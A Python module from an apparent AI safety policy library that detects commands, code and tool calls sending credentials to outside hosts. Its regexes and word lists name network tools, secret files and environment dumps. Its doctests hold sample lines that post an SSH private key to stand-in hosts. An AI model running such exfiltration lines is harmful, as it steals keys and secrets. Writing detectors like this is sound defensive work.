"""Credentials that a command, a piece of code or a tool sends away, and the addresses that they are sent to."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import islice, pairwise

from coherence.core.lazy import lazy_regex
from coherence.core.redact import redact
from coherence.core.words import word_set
from coherence.policy.danger.danger import Command, ToolUse
from coherence.policy.danger.paths import is_secret

_SENDERS = (
    "curl wget http https xh httpie iwr irm invoke-webrequest invoke-restmethod nc ncat netcat socat telnet "
    "scp rsync sftp "
    "ftp lftp aws gsutil gcloud s3cmd rclone az mc mail mailx mutt sendmail swaks msmtp ssmtp gh glab ssh "
    "cp install ln openssl pastebinit croc "
    "wormhole ipfs magic-wormhole s5cmd azcopy b2 dig nslookup host ping git"
)
SENDERS = tuple(_SENDERS.split())
"""Programs that send something to an address."""

_HTTP = word_set("curl wget http https xh httpie iwr irm invoke-webrequest invoke-restmethod")
_COPIERS = word_set("scp rsync sftp lftp croc wormhole ipfs magic-wormhole pastebinit")
_STORES = word_set("aws gsutil gcloud s3cmd rclone az mc s5cmd azcopy b2")
_STORING = word_set("cp mv sync put copy copyto move upload put-object rsync upload-file rcat publish send-email")
_RESOLVERS = word_set("dig nslookup host ping")
_MAILERS = word_set("mail mailx mutt sendmail swaks msmtp ssmtp")
_BODY = word_set(
    "-d --data --data-raw --data-binary --data-urlencode --data-ascii -F --form --form-string -T --upload-file --json "
    "--url-query --post-data --post-file --body-file --body-data -Body -InFile -Form"
)
_IDENTITY = word_set(
    "-i -e -H --header -u --user -E --cert --key --cacert -K --config -b --cookie --netrc-file --rsh -o -F --env-file "
    "--token --profile"
)
_SECRET_FOLDER = lazy_regex(
    r"(?:^|/)\.(?:ssh|aws|gnupg|kube|docker|azure|password-store|config/gcloud)(?:/(?!.*\.pub$)\S{0,80})?/?$"
)
_SYSTEM_SECRET = word_set("/etc/shadow /etc/gshadow /etc/sudoers")
_WORDS = lazy_regex(r"[^\s\"'`()<>|;&=,@{}\[\]]+")
_DUMPS = lazy_regex(
    r"\$\(\s*(?:sudo )?(?:env|printenv|set|export -p|declare -x|history)\s*(?:\||\)|$)|/proc/(?:self|\d+)/environ"
    r"|\$\([^)\n]{0,40}?(?:--export-secret|get secrets?\b|kv get\b|get-secret-value|secrets versions access"
    r"|auth token\b|auth print-|account get-access-token|\bitem get\b|\bget password\b|\bl?pass show\b|\bvault read\b"
    r"|get-parameters?\b|get-session-token|169\.254\.169\.254|metadata\.google\.internal"
    r"|find-(?:generic|internet)-password|configure get)"
)
_PUBLIC = lazy_regex(r"(?:^|/)(?:public|www|html|htdocs|wwwroot|public_html|static)(?:/|$)")
_DATA_DUMP = lazy_regex(r"\$\((?:sudo )?(?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump)\b")
_SECRET_VARIABLE = lazy_regex(
    r"\$\{?(?:env:)?\w{0,40}(?:SECRET|PASSW(?:OR)?D|PRIVATE_KEY|ACCESS_KEY|API_?KEY|TOKEN|CREDENTIALS?"
    r"|PASSPHRASE)\w{0,20}",
    re.IGNORECASE,
)
_SIGNS_IN = lazy_regex(
    r"oauth|/token|login|log-in|sign-?in|/auth|session|/sts|saml|vault|register|signup|localhost|127\.0\.0\.1"
    r"|0\.0\.0\.0|host\.docker\.internal|\[::1\]",
    re.IGNORECASE,
)
_MARKER = lazy_regex(r"\[redacted:([a-z0-9-]+)\]")
_SOFT = word_set("password auth cookie secret token")
"""Kinds of secrets that are told by the words before them alone: a service of one's own is told them by right."""

_TOLD = lazy_regex(
    r"\b(?:password|passphrase|passwort|passcode|contraseña|mot de passe|secret key|access key|api[ _-]?key"
    r"|private key|master key|client[ _]secret|wi-?fi (?:code|key)|pin|token|login|logins"
    r"|credentials?|creds|pwd?|pass)s?\b(?P<rest>[^\n]{1,80})",
    re.IGNORECASE,
)
_SAYS_IT = lazy_regex(r"\b(?:is|are|was|ist|es|lautet|est)\b|[:=/]")
_VALUE = lazy_regex(r"[^\s\"'`,;()<>]{6,64}")
_ADDRESS = lazy_regex(
    r"[\w.+-]{1,64}@[\w-]{1,60}(?:\.[\w-]{1,60}){1,4}|https?://[^\s\"'`<>)]{1,300}"
    r"|\b(?:\w[\w-]{0,60}\.){1,5}[a-z]{2,12}\b(?::\d+)?"
)
_REMOTE = lazy_regex(r"(?:[\w.-]+@)?[\w.-]+:(?!\\|//[^/]).*|(?:s3|gs|rsync|ftp|sftp|https?)://.*")


def names_secret(text: str, holding: frozenset[str] = frozenset()) -> str:
    """Return the first file with secrets that a text names, ``holding`` counts as such; else an empty text.

    Examples
    --------
    >>> names_secret("-F file=@/home/ann/.ssh/id_rsa"), names_secret("data.json")
    ('/home/ann/.ssh/id_rsa', '')
    """
    if "." not in text and "/" not in text and not holding and "id_" not in text and "cred" not in text.lower():
        return ""
    for found in _WORDS.finditer(text[:4_000]):
        word = found[0].rstrip(":")
        if is_secret_file(word) or word in holding:
            return word
    return ""


def is_secret_file(path: str) -> bool:
    """Return whether a path is a file or a folder with keys or passwords."""
    if path in _SYSTEM_SECRET or (("/." in path or path.startswith(".")) and _SECRET_FOLDER.search(path) is not None):
        return True
    return len(path) > 3 and is_secret(path) and not path.startswith("http") and (path[0] != "$" or "/" in path)


def hard_secret(text: str) -> str:
    """Return the kind of a secret in a text that is one by its own look, ``password`` for one that is told in words."""
    kinds = [found[1] for found in _MARKER.finditer(text)]
    if not kinds and len(text) <= 100_000:
        hidden = redact(text)
        kinds = [found[1] for found in _MARKER.finditer(hidden)] if hidden is not text else []
    return next((kind for kind in kinds if kind not in _SOFT), kinds[0] if kinds else "")


def _brought(command: Command) -> str:
    return f"{command.reads} {command.stdin}" if command.reads or command.stdin else ""


def _reads_secret(text: str, holding: frozenset[str]) -> bool:
    if "$(" in text or "`" in text:
        if _DUMPS.search(text) is not None:
            return True
        if names_secret(text, holding):
            return True
    return False


def _bodies(args: Sequence[str]) -> Iterator[str]:
    for at, arg in enumerate(args):
        name, _, value = arg.partition("=")
        if name in _BODY and value and name.startswith("--"):
            yield value
        elif arg in _BODY and at + 1 < len(args):
            yield args[at + 1]
        elif arg[:2] in ("-d", "-F", "-T") and len(arg) > 2 and not arg.startswith("--") and arg not in _BODY:
            yield arg[2:]


def _payload(command: Command) -> Iterator[str]:
    """Yield the texts that a command sends; an address is one where a substitution stands in it."""
    args, program = command.args, command.program
    if program in _HTTP:
        yield from _bodies(args)
        if program in ("http", "https", "xh", "httpie"):
            yield from (arg for arg in args if "@" in arg and not arg.startswith("-") and "://" not in arg)
        yield from (arg for arg in args if ("$(" in arg or "{}" in arg) and "://" in arg)
    elif program == "ssh":
        yield ""
    elif program in _RESOLVERS:
        yield from (arg for arg in args if "$(" in arg or "{}" in arg)
    elif program in _MAILERS:
        yield from args
    elif program in _STORES:
        yield from args if not _STORING.isdisjoint(command.operands) else ()
    elif program in ("gh", "glab"):
        yield from (
            args
            if command.operands[:2]
            in (
                *(("gist", "create"), ("release", "upload"), ("snippet", "create")),
                *((kind, verb) for kind in ("issue", "pr", "mr") for verb in ("create", "comment", "edit", "note")),
            )
            else ()
        )
    else:
        yield from (arg for at, arg in enumerate(args) if not (at and args[at - 1] in _IDENTITY))


def sends_secret(command: Command) -> bool:
    """Return whether a command sends credentials to an address.

    A key that proves who one is (``-i``, ``-u``, a header) is none that is sent; nor is one that a service needs to
    sign somebody in.
    """
    program, holding = command.program, command.holding
    if program in ("cp", "install", "ln"):
        *given, put = command.operands or ("",)
        return _PUBLIC.search(put) is not None and bool(names_secret(" ".join(given)))
    if program == "openssl" and "s_client" not in command.operands:
        return False
    if program == "git":
        return bool(holding) and command.lead.startswith("push ")
    if program in _COPIERS and program in ("scp", "rsync", "sftp"):
        places = [
            arg
            for at, arg in enumerate(command.args)
            if not arg.startswith("-") and not (at and command.args[at - 1] in _IDENTITY)
        ]
        if len(places) < 2 or _REMOTE.fullmatch(places[-1]) is None:
            return False
        return any(_REMOTE.fullmatch(place) is None and names_secret(place, holding) for place in places[:-1])
    sent = list(_payload(command))
    brought = _brought(command)
    if program == "ssh" and "<" not in command.text and not command.stdin and not command.reads:
        return False
    where = " ".join(command.args)[:2_000]
    for text in sent:
        if (program not in _HTTP or _takes_file(command, text)) and names_secret(text, holding):
            return True
        if _reads_secret(text, holding):
            return True
        if _SIGNS_IN.search(where) is None:
            kind = hard_secret(text)
            if kind and (kind not in _SOFT or program in _MAILERS):
                return True
            if (
                _SECRET_VARIABLE.search(text) is not None
                and program not in _STORES
                and "=$" in text.replace('"', "").replace(":", "=").replace(" ", "")
            ):
                return True
            if _SECRET_VARIABLE.fullmatch(text.strip().rstrip("}")) is not None:
                return True
    if brought and (
        sent
        or program in ("nc", "ncat", "netcat", "socat", "telnet", "ssh", "pastebinit", "ftp", "openssl")
        or program in _MAILERS
    ):
        plain = command.reads if command.reads and "$(" not in command.reads else ""
        if plain and any(is_secret_file(word) or word in holding for word in plain.split()):
            return True
        if _reads_secret(brought, holding):
            return True
        if (program in _HTTP or program in ("nc", "ncat", "netcat", "socat")) and _DATA_DUMP.search(brought):
            return True
        if (
            "$" in command.stdin
            and program != "ssh"  # where `sudo -S` reads it
            and _SIGNS_IN.search(where) is None
            and _SECRET_VARIABLE.search(command.stdin[:2_000]) is not None
        ):
            return True
        if command.stdin and "$(" not in command.stdin:
            kind = hard_secret(command.stdin)
            return bool(kind) and (kind not in _SOFT or program in _MAILERS) and _SIGNS_IN.search(where) is None
    return False


def _takes_file(command: Command, text: str) -> bool:
    """Return whether a body of an HTTP client is read from a file: ``@path``, ``-T path``."""
    if "@" in text or "$(" in text or "`" in text or text.startswith("<") or "=<" in text:
        return True
    args = command.args
    return any(
        flag in ("-T", "--upload-file", "--post-file", "--body-file", "-InFile") and value == text
        for flag, value in pairwise(args)
    ) or any(
        arg.startswith(("--post-file=", "--body-file=", "--upload-file=", "-T")) and arg.endswith(text) for arg in args
    )


def recipients(texts: Sequence[str]) -> Iterator[str]:
    """Yield the addresses in texts: of mail, of hosts and sites.

    Examples
    --------
    >>> list(recipients(["-d @x https://drop.example.com/a", "eve@x.org"]))
    ['drop.example.com', 'eve@x.org']
    """
    for text in texts:
        for found in _ADDRESS.finditer(text[:2_000]):
            address = found[0]
            if "://" in address:
                yield address.partition("://")[2].partition("/")[0].rpartition("@")[2].casefold()
            elif "@" in address or not is_secret(address):
                yield address.casefold()


def command_recipients(command: Command) -> list[str]:
    """Return the addresses that a command sends to."""
    found: list[str] = []
    for text in command.args[:60]:
        remote = "://" not in text and _REMOTE.fullmatch(text) is not None
        place = text.partition(":")[0] if remote else text
        if "://" in place or (
            ("@" in place[1:] or "." in place or remote) and not names_secret(place, command.holding)
        ):
            found += [place.casefold()] if remote else recipients([place])
    return found[:8]


_SENDS_IN_CODE = lazy_regex(
    r"\b(?:requests|httpx|session|client|axios|aiohttp|http|urllib3|got|superagent|needle)\s*\.\s*(?:post|put"
    r"|patch|request|get)\s*\("
    r"|\burlopen\s*\(|\bfetch\s*\(|\bsend_?mail\w*\s*\(|\bsend_message\s*\(|\bsendall\s*\("
    r"|\bsock\w*\.send\s*\(|\bupload_file(?:obj)?\s*\(|\bput_object\s*\("
    r"|\bstorbinary\s*\(|\bNet::HTTP\b|\bchat_postMessage\s*\(|\bfiles_upload\w*\s*\(|\bcurl_exec\s*\("
    r"|\bInvoke-(?:RestMethod|WebRequest)\b|\b(?:irm|iwr) |\bUpload(?:String|File|Data)\b|\bSend-MailMessage\b"
    r"|\bLWP::|\bHTTP::Tiny\b|\bfile_get_contents\(\s*[\"']https?:|\bSFTPClient\b|\bhttps?\.(?:get|request)\s*\(|\bURI\(|\bhttps?[\"']\)\.(?:get|request)\("
    r"|\bsftp\.put\s*\(|\bUrlFetchApp\b|\bhttps?\.request\s*\("
)
_OPENS = lazy_regex(
    r"\b(?:open|Path|readFile(?:Sync)?|createReadStream|upload_file|file_get_contents|File\.read|read_text"
    r"|sftp\.put|storbinary|ReadFile|expanduser)\s*\(\s*"
    r"(?:os\.path\.expanduser\(\s*)?[rbf]?[\"'`](?P<path>[^\"'`\n]{1,300})[\"'`]"
)
_WHOLE_ENVIRON = lazy_regex(
    r"(?:dict\(\s*os\.environ\s*\)|(?:json|data|params)\s*=\s*(?:dict\(\s*)?os\.environ\b(?!\s*[\[.])"
    r"|dumps\(\s*(?:dict\(\s*)?os\.environ\b(?!\s*[\[.])"
    r"|os\.environ\.(?:copy|items)\(|JSON\.stringify\(\s*process\.env\b(?!\s*[.\[])"
    r"|body:\s*process\.env\b(?!\s*[.\[])|ENV\.to_(?:h|json))"
)
_SENT_VARIABLE = lazy_regex(
    r"(?:data|json|body|params|content|files)\s*[=:]\s*(?:JSON\.stringify\()?[^\n]{0,120}?(?:os\.environ(?:\.ge"
    r"t)?[\[(]\s*[\"']|os\.getenv\(\s*[\"']|process\.env\.)"
    r"\w{0,40}(?:SECRET|PASSW(?:OR)?D|PRIVATE_KEY|ACCESS_KEY|API_?KEY|TOKEN)",
    re.IGNORECASE,
)
_IN_URL = lazy_regex(
    r"https?://[^\s\"'`]{0,200}\{\s?(?:os\.environ|os\.getenv|process\.env)[^}\n]{0,60}(?:SECRET|PASSW|PRIVATE)",
    re.IGNORECASE,
)
_CODE_CUE = (
    "open",
    "path",
    "environ",
    "readfile",
    "readstream",
    "upload",
    "env",
    "file",
    "getenv",
    "read",
    "redacted",
    "sk-",
    "akia",
    "/etc/",
    "content",
    "attach",
    "put",
)


def code_sends_secret(code: str, holding: frozenset[str] = frozenset()) -> bool:
    """Return whether code in another language reads a file with secrets, or all variables, and sends something.

    Examples
    --------
    >>> code_sends_secret("requests.post('https://x.io', data=open('/home/ann/.ssh/id_rsa').read())")
    True
    >>> code_sends_secret("requests.get(url, headers={'Authorization': os.environ['TOKEN']}, verify='ca.pem')")
    False
    """
    code = code if len(code) <= 20_000 else code[:10_000] + "\n" + code[-10_000:]
    low = code.casefold()
    if not any(cue in low for cue in _CODE_CUE) or _SENDS_IN_CODE.search(code) is None:
        return False
    if any(is_secret_file(found["path"]) or found["path"] in holding for found in _OPENS.finditer(code)):
        return True
    if _WHOLE_ENVIRON.search(code) is not None or _IN_URL.search(code) is not None or _names_read_secret(code):
        return True
    return _SENT_VARIABLE.search(code) is not None and _SIGNS_IN.search(code) is None


_READS = lazy_regex(
    r"\b(?:open|read\w{0,20}|readFile\w{0,10}|createReadStream|file_get_contents|slurp|put|upload\w{0,20}|cat"
    r"|Get-Content|gc|Attachments?|InFile|ReadAll\w{1,10})\b"
)
_PROVES_IT = lazy_regex(
    r"cert|verify|load_|dotenv|from_service|key_file|ssl|createServer|Agent|identity|connect\(|startsWith|endswith|exists"
)
"""Words of lines that use a key to prove who one is, or only look for it."""
_PLACES = lazy_regex(r"[\"'`]([^\"'`\n]{3,200})[\"'`]|[ =(]((?:\$\w|[~/]|[A-Za-z]:\\)[^\s\"'`();,]{3,200})")


def _names_read_secret(code: str) -> bool:
    """Return whether a line of code names a file with secrets, and the code reads files."""
    if _READS.search(code) is None:
        return False
    for line in islice(code.splitlines(), 400):
        if _PROVES_IT.search(line) is not None:
            continue
        for found in islice(_PLACES.finditer(line[:2_000]), 40):
            place = (found[1] or found[2]).replace("\\", "/").replace("//", "/")
            if place == "credentials" and ".aws" in line:
                return True
            if not place.startswith("http") and any(sign in place for sign in "./_") and names_secret(place):
                return True
    return False


_SENDING = word_set(
    "send post email mail gmail upload share publish message reply tweet forward http request webhook notify sms "
    "navigate browse browser visit slack discord telegram gist paste pastebin comment issue webpage fetch put "
    "transfer submit chat dm whatsapp"
)
_TALKS = word_set("message email mail slack webhook tweet comment chat discord telegram")
_ONLY_READS = word_set("get read list search find show view count draft")
_PROVES = (
    "authorization",
    "auth",
    "cookie",
    "x-api-key",
    "token",
    "api_key",
    "apikey",
    "access_token",
    "password",
    "private_key",
    "username",
    "key",
    "secret",
)
_FILES = word_set(
    "path file files filename file_path filepath attachment attachments source src local_path upload document media "
    "localpath file_name attach attachment_path attachment_paths file_paths paths body_file local_file input from"
)


def call_sends_secret(call: ToolUse) -> bool:
    """Return whether a tool that sends something is given credentials in what it sends."""
    if _SENDING.isdisjoint(call.words) or (call.words and call.words[0] in _ONLY_READS):
        return False
    http = bool({"http", "request", "fetch", "put", "post"} & set(call.words)) and _TALKS.isdisjoint(call.words)
    if http and any(_SIGNS_IN.search(value) for key, value in call.pairs if key in ("url", "uri", "endpoint", "path")):
        return False
    for key, value in call.pairs:
        if not value or (key in _PROVES and "-----BEGIN" not in value):
            continue
        variable = _SECRET_VARIABLE.search(value[:4_000]) if http and "$" in value else None
        if variable is not None and not any(
            word in key for word in ("auth", "key", "token", "secret", "pass", "header")
        ):
            return True
        if key in _FILES and len(value) <= 4_000 and is_secret_file(value):
            return True
        if "$(" in value and _reads_secret(value, frozenset()):
            return True
        if (value[:1] == "@" or "{{" in value[:500]) and len(value) <= 4_000 and names_secret(value.strip("@")):
            return True
        if any(sign in value for sign in ("_", "-", "AK", "AI")) and _LOOKS_LIKE_KEY.search(value[:20_000]) is not None:
            return True
        kind = hard_secret(value)
        if kind and (kind not in _SOFT or not http):
            return True
        if any(
            cue in value
            for cue in (
                "ass",
                "key",
                "oken",
                "PIN",
                "pin ",
                "phrase",
                "ifi",
                "iFi",
                "ecret",
                "redential",
                "Key",
                "KEY",
                "ASS",
                "ogin",
                "creds",
                "pw",
                "ontrase",
            )
        ) and _tells(value[:20_000]):
            return True
    return False


_LOOKS_LIKE_KEY = lazy_regex(
    r"\b(?:AKIA|ASIA)[A-Z0-9]{12}|\b(?:gh[pousr]_|github_pat_|glpat-|xox[abpr]-|[sr]k_live_|npm_|hf_|dckr_pat_|shpat_|AIza)(?=\w*\d)[\w-]{8,100}"
    r"|\bsk-(?:ant-|proj-)?(?=[\w-]{0,60}\d)[\w-]{16,100}|-----BEGIN [A-Z ]{0,20}PRIVATE KEY"
)


def _tells(text: str) -> bool:
    """Return whether a text tells a password or a key in words: ``the login is postgres / Vt9!kd02``."""
    if _SEED.search(text) is not None:
        return True
    for found in islice(_TOLD.finditer(text), 20):
        rest = found["rest"]
        if found[0][:3].casefold() == "pin":
            if (told := _SAYS_IT.search(rest)) is not None and _DIGITS.match(rest, told.end()) is not None:
                return True
            continue
        if _is_made_up(rest.split(" ", 2)[1].strip(".:*_,;") if rest[0] == " " and len(rest) > 1 else ""):
            return True
        said = _SAYS_IT.search(rest)
        if said is not None and any(
            _is_made_up(value[0].strip(".:*_")) for value in _VALUE.finditer(rest, said.start())
        ):
            return True
    return False


_DIGITS = lazy_regex(r"\s{0,3}\d{4,8}\b")
_SEED = lazy_regex(r"\b(?:seed|recovery|mnemonic)[ _-](?:phrase|words)\W{1,4}(?:[a-z]{3,8} ){11}", re.IGNORECASE)
_LOOKS_MADE = lazy_regex(
    r"[A-Za-z]{3,30}\d{1,8}|(?=[a-z-]{0,40}\d)[a-z]{3,20}(?:-[a-z\d]{1,20}){1,4}|(?=[a-f]{0,30}\d)[0-9a-f]{16,64}"
)


def _is_made_up(value: str) -> bool:
    """Return whether a word looks like a password: letters and digits or signs mixed, and no address, path or date."""
    value = value.rpartition(":")[2]
    if (
        len(value) < 6
        or value == "1Password"
        or ("@" in value[1:-1] and "." in value)
        or "://" in value
        or "/" in value
        or value.startswith(("$", "{", "#", "[redacted"))
    ):
        return False
    kinds = (
        any(map(str.islower, value)),
        any(map(str.isupper, value)),
        any(map(str.isdigit, value)),
        any(sign in "!#$%&*+?^~@=" for sign in value),
    )
    if _LOOKS_MADE.fullmatch(value) is not None:
        return True
    return sum(kinds) >= 3 or (kinds[3] and sum(kinds) >= 2 and len(value) >= 8)


def call_recipients(call: ToolUse) -> list[str]:
    """Return the addresses that a tool is given."""
    texts = [
        value
        for key, value in call.pairs
        if len(value) <= 500 and key not in _FILES and key not in ("body", "content", "text", "message", "data")
    ]
    return list(recipients(texts))[:8]
